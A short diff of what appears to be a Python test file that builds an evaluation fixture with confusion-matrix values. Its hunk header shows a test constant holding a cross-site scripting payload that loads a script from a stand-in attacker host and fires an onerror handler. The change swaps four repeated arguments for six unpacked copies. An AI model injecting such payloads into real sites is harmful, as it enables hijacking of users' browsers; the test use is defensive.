@@ -42,7 +42,7 @@ ATTACK = '"><script src="http://evil.example/x.js"></script><img src=x onerror=a
 
 def evaluation(name: str, auc: float) -> Evaluation:
     level = Estimate(0.75, 0.6, 0.9)
-    at = AtThreshold(0.5, Confusion(tp=3, fn=1, fp=1, tn=3), level, level, level, level)
+    at = AtThreshold(0.5, Confusion(tp=3, fn=1, fp=1, tn=3), *[level] * 6)
     return Evaluation(
         name=name,
         images=8,
